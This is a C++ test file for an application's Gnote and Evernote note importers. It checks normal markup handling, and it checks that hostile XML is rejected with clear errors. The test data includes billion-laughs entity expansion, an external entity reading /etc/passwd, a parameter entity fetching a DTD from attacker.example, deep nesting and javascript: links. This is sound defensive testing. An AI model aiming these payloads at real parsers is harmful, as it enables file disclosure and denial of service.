// Notes from the desktop note programs' .note files and from Evernote export
// files: real files and every shape of their markup give the expected stored
// notes; broken and hostile files give an error naming what is wrong, no
// notes, and cost little.
#include <gtest/gtest.h>

#include <chrono>
#include <fstream>
#include <functional>
#include <sstream>
#include <string>
#include <vector>

#include "exchange/datetime.h"
#include "exchange/xmlnotes.h"
#include "platform/codepage.h"
#include "render/sanitize.h"

namespace korvane {
namespace {

struct Expected {
    std::string title;  // UTF-8 here, compared in the code page
    std::string body;   // UTF-8 with LF here; stored with CR LF
    std::string date;
};

std::string Crlf(std::string_view lf) {
    std::string out;
    for (const char c : lf) out += c == '\n' ? std::string("\r\n") : std::string(1, c);
    return out;
}

void ExpectNotes(const XmlNotesResult& result, const std::vector<Expected>& expected) {
    ASSERT_EQ(result.error, "") << platform::FromCodePage(result.error);
    ASSERT_EQ(result.notes.size(), expected.size());
    for (size_t i = 0; i < expected.size(); ++i) {
        const ExchangedNote& note = result.notes[i];
        EXPECT_EQ(note.id, 0);
        EXPECT_EQ(platform::FromCodePage(note.title), expected[i].title);
        EXPECT_EQ(platform::FromCodePage(note.body), Crlf(expected[i].body));
        EXPECT_EQ(note.title, Cp(expected[i].title));
        EXPECT_EQ(note.body, Cp(Crlf(expected[i].body)));
        EXPECT_EQ(note.date, expected[i].date);
    }
}

std::string DataFile(const char* name) {
    std::ifstream in(std::string(KORVANE_SOURCE_DIR) + "/tests/data/exchange/" + name,
                     std::ios::binary);
    std::ostringstream bytes;
    bytes << in.rdbuf();
    return bytes.str();
}

std::string Utc(const char* iso) {
    return StoredTimeFromIso(iso).value_or("?");
}

// ---- .note files ----

TEST(GnoteNote, RealFileGnoteWrote) {
    const std::string file = DataFile("gnote-shopping.note");
    if (file.empty()) GTEST_SKIP() << "no source tree here";
    const XmlNotesResult result = ReadGnoteNote(file);
    ExpectNotes(result, {{"购物清单 Shopping 😀",
                          "牛奶 & 面包 <不是标签> \n第二行 emoji 🎉 and a < b > c\n最后一行",
                          Utc("2026-12-08T22:53:14Z")}});
    // The characters GBK lacks survive in the code page's four-byte forms.
    EXPECT_FALSE(platform::FitsGbk("😀"));
    EXPECT_EQ(platform::ToCodePage(platform::FromCodePage(result.notes[0].title)),
              result.notes[0].title);
    // Text with '<' shows as typed.
    const std::string shown = platform::FromCodePage(SanitizeMarkup(result.notes[0].body));
    EXPECT_NE(shown.find("&lt;不是标签&gt;"), std::string::npos) << shown;
}

TEST(GnoteNote, RealWelcomeNoteWithMarkupKeepsItsText) {
    const std::string file = DataFile("gnote-start-here.note");
    if (file.empty()) GTEST_SKIP() << "no source tree here";
    const XmlNotesResult result = ReadGnoteNote(file);
    ASSERT_EQ(result.error, "") << platform::FromCodePage(result.error);
    ASSERT_EQ(result.notes.size(), 1u);
    const std::string body = platform::FromCodePage(result.notes[0].body);
    EXPECT_EQ(platform::FromCodePage(result.notes[0].title), "Start Here");
    EXPECT_EQ(body.rfind("\r\nWelcome to Gnote!\r\n\r\nUse this", 0), 0u) << body;
    EXPECT_NE(body.find("called Using Links in Gnote.  Notice"), std::string::npos);
    EXPECT_EQ(body.find('<'), std::string::npos);
    EXPECT_EQ(body.find("\n\n"), std::string::npos);  // every line end is CR LF
    EXPECT_EQ(result.notes[0].date, Utc("2026-12-08T22:53:13Z"));
}

struct NoteCase {
    const char* name;
    std::string file;
    Expected note;
};

class GnoteShapes : public testing::TestWithParam<NoteCase> {};

TEST_P(GnoteShapes, ReadAsExpected) {
    ExpectNotes(ReadGnoteNote(GetParam().file), {GetParam().note});
}

std::string Note(std::string_view version, std::string_view title, std::string_view content,
                 std::string_view dates) {
    return std::string("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<note version=\"") +
           std::string(version) +
           "\" xmlns:link=\"http://beatniksoftware.com/tomboy/link\" "
           "xmlns:size=\"http://beatniksoftware.com/tomboy/size\" "
           "xmlns=\"http://beatniksoftware.com/tomboy\">\n  <title>" +
           std::string(title) + "</title>\n  <text xml:space=\"preserve\">" + std::string(content) +
           "</text>\n  " + std::string(dates) + "\n</note>\n";
}

INSTANTIATE_TEST_SUITE_P(
    Shapes, GnoteShapes,
    testing::Values(
        NoteCase{"OlderVersionWithEveryMarkup",
                 Note("0.2", "Plans",
                      "<note-content version=\"0.1\">Plans\n<bold>Bold</bold> <italic>it</italic> "
                      "<size:large>big</size:large> <link:url>https://example.com/?a=1&amp;b=2"
                      "</link:url> <link:internal>Other</link:internal>\n<list><list-item "
                      "dir=\"ltr\">one\n</list-item><list-item dir=\"ltr\">two\n<list><list-item "
                      "dir=\"ltr\">inner\n</list-item></list></list-item></list>end\n"
                      "</note-content>",
                      "<last-change-date>2010-05-04T10:11:12.1234567+08:00</last-change-date>"
                      "<create-date>2009-01-01T00:00:00.0000000+08:00</create-date>"),
                 {"Plans",
                  "Bold it big https://example.com/?a=1&b=2 Other\n• one\n• two\n  • inner\nend",
                  "2010-05-04 10:11:12"}},
        NoteCase{"TitleNotRepeatedKeepsEveryLine",
                 Note("0.3", "标题", "<note-content>第一行\n第二行</note-content>",
                      "<create-date>2026-01-02T03:04:05.1234567-05:00</create-date>"),
                 {"标题", "第一行\n第二行", "2026-01-02 03:04:05"}},
        NoteCase{"EmptyContentAndUnreadableDate",
                 Note("0.3", "Empty", "<note-content version=\"0.1\"/>\n",
                      "<last-change-date>soon</last-change-date>"),
                 {"Empty", "", ""}},
        NoteCase{"NoTitleTakesTheFirstLine",
                 Note("0.3", "", "<note-content>Heading\nrest</note-content>", ""),
                 {"Heading", "Heading\nrest", ""}},
        NoteCase{"TextThatLooksLikeMarkupStaysText",
                 Note("0.3", "a &lt; b",
                      "<note-content>a &lt; b\n&lt;script&gt;x&lt;/script&gt; &amp;amp; "
                      "&lt;span class=\"TBlank\"&gt;typed&lt;/span&gt;</note-content>",
                      ""),
                 {"a < b", "<script>x</script> &amp; <span class=\"TBlank\">typed</span>", ""}}),
    [](const auto& info) { return std::string(info.param.name); });

// ---- .enex files ----

struct EnexCase {
    const char* name;
    std::string file;
    std::vector<Expected> notes;
    int skipped = 0;
};

class EnexShapes : public testing::TestWithParam<EnexCase> {};

TEST_P(EnexShapes, ReadAsExpected) {
    const XmlNotesResult result = ReadEnex(GetParam().file);
    ExpectNotes(result, GetParam().notes);
    EXPECT_EQ(result.skipped, GetParam().skipped);
}

std::string Enex(std::string_view notes) {
    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE en-export SYSTEM "
           "\"http://xml.evernote.com/pub/evernote-export3.dtd\">\n<en-export "
           "export-date=\"20201012T101010Z\" application=\"Evernote\" version=\"10.0\">\n" +
           std::string(notes) + "</en-export>\n";
}

std::string EnNote(std::string_view title, std::string_view enml, std::string_view rest = "") {
    return "<note><title>" + std::string(title) +
           "</title><content><![CDATA[<?xml version=\"1.0\" encoding=\"UTF-8\" "
           "standalone=\"no\"?>\n<!DOCTYPE en-note SYSTEM "
           "\"http://xml.evernote.com/pub/enml2.dtd\">\n<en-note>" +
           std::string(enml) + "</en-note>]]></content>" + std::string(rest) + "</note>\n";
}

const char kResource[] =
    "<resource><data encoding=\"base64\">iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4"
    "\n2mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==</data><mime>image/png</mime><width>1</width>"
    "<resource-attributes><file-name>dot.png</file-name></resource-attributes></resource>";

INSTANTIATE_TEST_SUITE_P(
    Shapes, EnexShapes,
    testing::Values(
        EnexCase{"TwoNotesWithTheirDates",
                 Enex(EnNote("First 第一", "<div>Hello 你好 😀</div>",
                             "<created>20201010T101010Z</created><updated>20201011T101010Z"
                             "</updated><tag>work</tag><note-attributes><author>me</author>"
                             "<source-url>https://example.com</source-url></note-attributes>") +
                      EnNote("Second", "<div>only created</div>",
                             "<created>20201010T101010Z</created>")),
                 {{"First 第一", "Hello 你好 😀", Utc("2020-10-11T10:10:10Z")},
                  {"Second", "only created", Utc("2020-10-10T10:10:10Z")}}},
        EnexCase{
            "BlocksAsLinesWithoutInventedEmptyLines",
            Enex(EnNote("Blocks",
                        "\n  <div>one</div>\n  <div><br/></div>\n  <div>two<br/></div>"
                        "<div><div>nested</div></div><p>para</p><h1>Head</h1>"
                        "<blockquote>quoted</blockquote><hr/><div>  spaced \n  words  "
                        "</div><pre>pre  kept\n  indent</pre><div><br/></div><div><br/></div>")),
            {{"Blocks", "one\n\ntwo\nnested\npara\nHead\nquoted\nspaced words\npre  kept\n  indent",
              ""}}},
        EnexCase{
            "BoldLinksTodosListsTables",
            Enex(EnNote("Marks",
                        "<div>plain <b>bold</b> and <strong> strong <i>it</i></strong>.</div>"
                        "<div><a href=\"https://example.com/a?b=1&amp;c=2\">web</a> "
                        "<a href=\"mailto:me@example.com\">mail</a> "
                        "<a href=\"javascript:alert(1)\">script</a> "
                        "<a href=\"https://x.example/&quot;onmouseover=&quot;\">quote</a> "
                        "<a href=\"evernote:///view/1\">inner</a></div>"
                        "<div><en-todo checked=\"true\"/>done</div><div><en-todo/>open</div>"
                        "<div><en-todo checked=\"false\"></en-todo>also open</div>"
                        "<ul><li>a</li><li>b<ol><li>x</li><li>y</li></ol></li></ul>"
                        "<table><tr><th>h1</th><th>h2</th></tr><tr><td>c1</td><td>c2</td></tr>"
                        "</table><div><b></b>no empty bold</div>"
                        "<div><b> <a href=\"https://b.example/\">bold link</a> after</b></div>")),
            {{"Marks",
              "plain <span class=\"TBlank\">bold</span> and <span "
              "class=\"TBlank\">strong it</span>.\n"
              "<a href=\"https://example.com/a?b=1&c=2\" target=\"_blank\">web</a> "
              "<a href=\"mailto:me@example.com\" target=\"_blank\">mail</a> script quote "
              "inner\n[x] done\n[ ] open\n[ ] also open\n• a\n• b\n  1. x\n  2. y\n"
              "h1 | h2\nc1 | c2\nno empty bold\n<span class=\"TBlank\"><a "
              "href=\"https://b.example/\" "
              "target=\"_blank\">bold link</a> after</span>",
              ""}}},
        EnexCase{"ResourcesCountedOnceAndCryptLeftOut",
                 Enex(EnNote("Media",
                             "<div>before<en-media type=\"image/png\" hash=\"abc\"/>after</div>"
                             "<div><en-media type=\"image/png\" hash=\"abc\"></en-media></div>"
                             "<en-crypt cipher=\"AES\" length=\"128\">c2VjcmV0</en-crypt>"
                             "<div>end</div>",
                             std::string(kResource) + kResource) +
                      EnNote("More", "<div>x</div>", kResource)),
                 {{"Media", "beforeafter\nend", ""}, {"More", "x", ""}},
                 4},
        EnexCase{"EscapedContentEntitiesAndEmptyNotes",
                 Enex("<note><title>Esc</title><content>&lt;?xml version=\"1.0\"?&gt;&lt;en-note"
                      "&gt;&lt;div&gt;a&amp;amp;b c &amp;lt;script&amp;gt; "
                      "&amp;#x4E2D;&amp;#160;&lt;/div&gt;&lt;/en-note&gt;</content></note>"
                      "<note><title>  </title><content></content></note>" +
                      EnNote("Named", "<div>x&nbsp;y&mdash;z</div>")),
                 {{"Esc", "a&b c <script> 中\u00a0", ""},
                  {"", "", ""},
                  {"Named", "x\u00a0y\u2014z", ""}}},
        EnexCase{"NoNotesAtAll", Enex(""), {}}),
    [](const auto& info) { return std::string(info.param.name); });

// ---- Broken and hostile files ----

enum class Reader { Gnote, Enex };

struct HostileCase {
    const char* name;
    Reader reader;
    std::function<std::string()> file;
    std::vector<std::string> says;  // UTF-8 parts the error must hold, where ("第 N 行") and what
};

class HostileFiles : public testing::TestWithParam<HostileCase> {};

TEST_P(HostileFiles, FailWholeSayingWhatIsWrongAndCheaply) {
    const std::string file = GetParam().file();
    const auto start = std::chrono::steady_clock::now();
    const XmlNotesResult result =
        GetParam().reader == Reader::Gnote ? ReadGnoteNote(file) : ReadEnex(file);
    const auto took = std::chrono::steady_clock::now() - start;
    EXPECT_TRUE(result.notes.empty());
    ASSERT_NE(result.error, "");
    const std::string error = platform::FromCodePage(result.error);
    for (const std::string& part : GetParam().says)
        EXPECT_NE(error.find(part), std::string::npos) << error << "\nlacks: " << part;
    EXPECT_LT(took, std::chrono::seconds(5)) << error;
}

std::string Laughs(std::string_view root) {
    std::string file = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n";
    for (int i = 1; i <= 9; ++i)
        file += " <!ENTITY lol" + std::to_string(i) + " \"" + [&] {
            std::string refs;
            for (int k = 0; k < 10; ++k)
                refs += "&lol" + (i == 1 ? std::string() : std::to_string(i - 1)) + ";";
            return refs;
        }() + "\">\n";
    return file + "]>\n<" + std::string(root) + "><title>&lol9;</title></" + std::string(root) +
           ">\n";
}

std::string Nested(int depth, std::string_view element) {
    std::string file;
    file.reserve(static_cast<size_t>(depth) * (element.size() * 2 + 5));
    for (int i = 0; i < depth; ++i) file += "<" + std::string(element) + ">";
    for (int i = 0; i < depth; ++i) file += "</" + std::string(element) + ">";
    return file;
}

std::string WithNul() {
    std::string file = Note("0.3", "nul", "<note-content>a", "");
    file.insert(file.find("<note-content>a") + 15, 1, '\0');
    return file;
}

const std::string kGoodNote = Note("0.3", "T", "<note-content>T\nbody</note-content>", "");

INSTANTIATE_TEST_SUITE_P(
    Table, HostileFiles,
    testing::Values(
        HostileCase{"BillionLaughsNote",
                    Reader::Gnote,
                    [] { return Laughs("note"); },
                    {"第 3 行", "声明了实体", "lol", "不会展开"}},
        HostileCase{
            "BillionLaughsEnex", Reader::Enex, [] { return Laughs("en-export"); }, {"声明了实体"}},
        HostileCase{"BillionLaughsInsideContent",
                    Reader::Enex,
                    [] {
                        std::string content = Laughs("en-note");
                        content.erase(0, content.find('\n') + 1);
                        return Enex("<note><title>Lol</title><content><![CDATA[" + content +
                                    "]]></content></note>");
                    },
                    {"第 1 条笔记", "《Lol》", "声明了实体"}},
        HostileCase{"ExternalEntity",
                    Reader::Gnote,
                    [] {
                        return std::string(
                            "<!DOCTYPE note [<!ENTITY x SYSTEM "
                            "\"file:///etc/passwd\">]><note><title>&x;</title>"
                            "</note>");
                    },
                    {"声明了实体", "x"}},
        HostileCase{"ParameterEntityLoadingADtd",
                    Reader::Enex,
                    [] {
                        return std::string(
                            "<!DOCTYPE en-export [<!ENTITY % dtd SYSTEM "
                            "\"http://attacker.example/evil.dtd\"> %dtd;]>"
                            "<en-export/>");
                    },
                    {"声明了实体", "dtd"}},
        HostileCase{"ExternalDtdWithEntities",
                    Reader::Gnote,
                    [] {
                        return std::string(
                            "<!DOCTYPE note SYSTEM \"http://x.example/n.dtd\" ["
                            "<!ENTITY title \"injected\">]><note><title>&title;"
                            "</title></note>");
                    },
                    {"声明了实体", "title"}},
        HostileCase{"UndeclaredEntityUnderExternalDtd",
                    Reader::Gnote,
                    [] {
                        return std::string(
                            "<!DOCTYPE note SYSTEM \"http://x.example/n.dtd\">"
                            "\n<note><title>&secret;</title></note>");
                    },
                    {"第 2 行", "未声明的实体", "&secret;"}},
        HostileCase{"UndeclaredParameterEntity",
                    Reader::Gnote,
                    [] {
                        // Declarations after a parameter entity that is not read
                        // are not read either.
                        return std::string(
                            "<!DOCTYPE note SYSTEM \"n.dtd\" [ %p; <!ENTITY "
                            "lol \"lol\"> ]><note><title>&lol;</title></note>");
                    },
                    {"第 1 行", "未声明的实体", "&lol;"}},
        HostileCase{"DeepNote",
                    Reader::Gnote,
                    [] { return Nested(100000, "note"); },
                    {"第 1 行", "嵌套超过 256 层"}},
        HostileCase{"DeepEnex",
                    Reader::Enex,
                    [] { return Nested(100000, "en-export"); },
                    {"嵌套超过 256 层"}},
        HostileCase{"DeepContent",
                    Reader::Enex,
                    [] {
                        return Enex("<note><title>Deep</title><content><![CDATA[" +
                                    Nested(100000, "div") + "]]></content></note>");
                    },
                    {"第 1 条笔记", "《Deep》", "嵌套超过 256 层"}},
        HostileCase{"NulByte", Reader::Gnote, WithNul, {"第 4 行", "无效的字符"}},
        HostileCase{"InvalidUtf8",
                    Reader::Gnote,
                    [] { return Note("0.3", "bad \xff\xfe bytes", "", ""); },
                    {"无效的字符"}},
        HostileCase{"UnknownEncoding",
                    Reader::Enex,
                    [] {
                        return std::string(
                            "<?xml version=\"1.0\" encoding=\"GBK\"?>"
                            "<en-export/>");
                    },
                    {"字符编码不受支持"}},
        HostileCase{"TruncatedNote",
                    Reader::Gnote,
                    [] { return kGoodNote.substr(0, kGoodNote.size() / 2); },
                    {"不完整"}},
        HostileCase{"TruncatedEnex",
                    Reader::Enex,
                    [] {
                        const std::string whole = Enex(EnNote("T", "<div>x</div>"));
                        return whole.substr(0, whole.find("]]>"));
                    },
                    {"不完整"}},
        HostileCase{"EmptyFile", Reader::Gnote, [] { return std::string(); }, {"空"}},
        HostileCase{"BlankFile", Reader::Enex, [] { return std::string(" \r\n\t"); }, {"空"}},
        HostileCase{"EnexGivenAsNote",
                    Reader::Gnote,
                    [] { return Enex(EnNote("T", "<div>x</div>")); },
                    {"不是 Gnote 笔记", "<en-export>"}},
        HostileCase{"NoteWithoutContent",
                    Reader::Gnote,
                    [] { return std::string("<note>\n<to>Tove</to><body>hi</body>\n</note>"); },
                    {"第 3 行", "不是 Gnote 笔记", "<note-content>"}},
        HostileCase{"NoteGivenAsEnex",
                    Reader::Enex,
                    [] { return kGoodNote; },
                    {"不是 Evernote 导出文件", "<note>"}},
        HostileCase{"ContentThatIsNoXml",
                    Reader::Enex,
                    [] {
                        return Enex(EnNote("Good", "<div>fine</div>") +
                                    "<note><title>坏的</title><content>just &lt;b&gt;text"
                                    "</content></note>");
                    },
                    {"第 2 条笔记", "《坏的》", "内容不是有效的 XML", "第 1 行第 "}},
        HostileCase{"OverTheSizeLimit",
                    Reader::Gnote,
                    [] {
                        std::string file = kGoodNote;
                        file.insert(file.find("body"), (size_t{64} << 20) + 1 - file.size(), 'x');
                        return file;
                    },
                    {"超过导入上限", "67108864"}}),
    [](const auto& info) { return std::string(info.param.name); });

}  // namespace
}  // namespace korvane
